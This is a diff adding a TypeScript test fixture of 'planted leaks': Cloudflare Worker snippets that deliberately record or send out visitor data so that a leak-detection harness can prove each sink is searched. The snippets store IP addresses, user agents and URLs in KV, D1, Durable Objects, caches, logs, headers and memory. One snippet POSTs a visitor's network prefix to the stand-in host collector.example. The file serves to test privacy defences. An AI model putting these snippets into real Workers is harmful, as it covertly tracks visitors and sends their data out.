@@ -1,0 +1,172 @@
+// Planted leaks: Workers that each keep one value of a visitor, one or more for each sink. The run fails if a leak is not
+// found, because the search of that sink would prove nothing.
+
+import type { WorkerOptions } from '../host/miniflare.ts';
+import type { Sink } from './sinks.ts';
+
+export interface Leak {
+  readonly name: string;
+  readonly sink: Sink;
+  /** Statements at module level of the Worker's entry. */
+  readonly state?: string;
+  /** Statements before the response is made, with `request`, `env` and `context`. */
+  readonly before?: string;
+  /** Statements after it; they may assign to `response`. */
+  readonly after?: string;
+  /** A module below the repository's root that is changed. */
+  readonly replacement?: { readonly path: string; readonly replace: (text: string) => string };
+  readonly options?: WorkerOptions;
+  /** Leaks only from a page of the dashboard, to a signed-in owner. */
+  readonly inDashboard?: boolean;
+}
+
+const address = "(request.headers.get('CF-Connecting-IP') ?? '')";
+const number = `${address}.split('.').reduce((sum, part) => sum * 256 + Number(part), 0)`;
+const sha256 = `const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(${address}));
+    const hash = [...new Uint8Array(digest)].map((byte) => byte.toString(16).padStart(2, '0')).join('');`;
+
+const inStores: readonly Leak[] = [
+  {
+    name: 'an address as a key',
+    sink: 'KV on disk',
+    before: `await env.PROJECTS.put('seen:' + ${address}, '1');`,
+  },
+  {
+    name: 'the SHA-256 of an address in a row',
+    sink: 'D1 on disk',
+    before: `${sha256}
+    await env.DB.prepare('CREATE TABLE IF NOT EXISTS seen (hash TEXT)').run();
+    await env.DB.prepare('INSERT INTO seen VALUES (?)').bind(hash).run();`,
+  },
+  {
+    name: 'packed bytes of an address',
+    sink: 'Durable Objects on disk',
+    state: `import { DurableObject } from 'cloudflare:workers';
+export class Seen extends DurableObject {
+  async fetch(request: Request) {
+    await this.ctx.storage.put('last', await request.arrayBuffer());
+    return new Response();
+  }
+}`,
+    before: `const packed = new Uint8Array(${address}.split('.').map(Number));
+    await env.SEEN.getByName('all').fetch('https://seen.example/', { method: 'POST', body: packed });`,
+    options: { durableObjects: { SEEN: { className: 'Seen', useSQLite: true } } },
+  },
+  {
+    name: 'a user agent, base64, in the URL of a cached response',
+    sink: 'cache on disk',
+    before: `const agent = btoa(request.headers.get('User-Agent') ?? '').replaceAll('=', '');
+    const cached = new Response('1', { headers: { 'Cache-Control': 'max-age=60' } });
+    await caches.default.put('https://cache.example/' + agent, cached);`,
+  },
+  {
+    name: 'an address in a store that wrangler.toml does not have',
+    sink: 'other files',
+    before: `await env.BUCKET.put('last', ${address});`,
+    options: { r2Buckets: ['BUCKET'] },
+  },
+];
+
+const outside: readonly Leak[] = [
+  {
+    name: 'the network of an address, sent to a collector',
+    sink: 'requests to the internet',
+    before: `const network = ${address}.split('.').slice(0, 3).join('.') + '.0/24';
+    await fetch('https://collector.example/', { method: 'POST', body: network });`,
+  },
+  {
+    name: 'an address as a number in console.log',
+    sink: 'stdout',
+    before: `console.log(${number});`,
+  },
+  {
+    name: 'a language in console.error',
+    sink: 'stderr',
+    before: "console.error(request.headers.get('Accept-Language'));",
+  },
+  {
+    name: 'a path in an uncaught exception',
+    sink: 'stderr',
+    before: 'context.waitUntil(Promise.reject(new Error(request.url)));',
+  },
+  {
+    name: 'requests counted by address',
+    sink: 'binding calls',
+    before: `await env.RATE_STANDARD.limit({ key: ${address} });`,
+  },
+  {
+    name: 'a call that is not on the list',
+    sink: 'binding calls',
+    before: 'await env.PROJECTS.list();',
+  },
+  {
+    name: 'the previous address in a header',
+    sink: 'other responses',
+    state: "let last = '';",
+    after: `response = new Response(response.body, response);
+    response.headers.set('X-Last', last);
+    last = ${address};`,
+  },
+  {
+    name: 'the path in the body',
+    sink: 'refusals',
+    after:
+      'if (!response.ok) response = new Response((await response.text()) + new URL(request.url).search, response);',
+  },
+];
+
+const inMemory: readonly Leak[] = [
+  {
+    name: 'addresses in a Set',
+    sink: 'heap objects',
+    state: 'const seen = new Set();',
+    before: `seen.add(${address});`,
+  },
+  {
+    name: 'addresses as numbers in a Map',
+    sink: 'heap objects',
+    state: 'const seen = new Map();',
+    before: `seen.set(${number}, 1);`,
+  },
+  {
+    name: 'a few letters cut from a URL, which keep the whole text alive',
+    sink: 'heap objects',
+    state: "let last = '';",
+    before: 'last = request.url.slice(0, 30);',
+  },
+  {
+    name: 'a client hint looked up in an object, whose key the engine keeps',
+    sink: 'heap objects',
+    state: 'const names: any = { Chromium: 1 }; let known = 0;',
+    before: "known += names[request.headers.get('Sec-CH-UA-Model') ?? ''] ?? 0;",
+  },
+  {
+    name: 'a session cookie matched by a pattern, whose last subject the engine keeps',
+    sink: 'heap objects',
+    inDashboard: true,
+    replacement: {
+      path: 'src/edge/request/reset-regexp-statics.ts',
+      replace: (text) => text.replace("/^/.exec('');", ''),
+    },
+  },
+  {
+    name: 'a closure that waits for a timer',
+    sink: 'heap objects',
+    before: `const agent = request.headers.get('User-Agent');
+    context.waitUntil(new Promise((resolve) => setTimeout(() => resolve(agent), 60000)));`,
+  },
+  {
+    name: 'packed addresses in a typed array',
+    sink: 'heap buffers',
+    state: 'const ring = new Uint32Array(64); let at = 0;',
+    before: `ring[at++ % 64] = ${number};`,
+  },
+  {
+    name: 'addresses as numbers in a list',
+    sink: 'heap buffers',
+    state: 'const seen: number[] = [];',
+    before: `seen.push(${number} + 0.5 - 0.5);`,
+  },
+];
+
+export const leaks: readonly Leak[] = [...inStores, ...outside, ...inMemory];
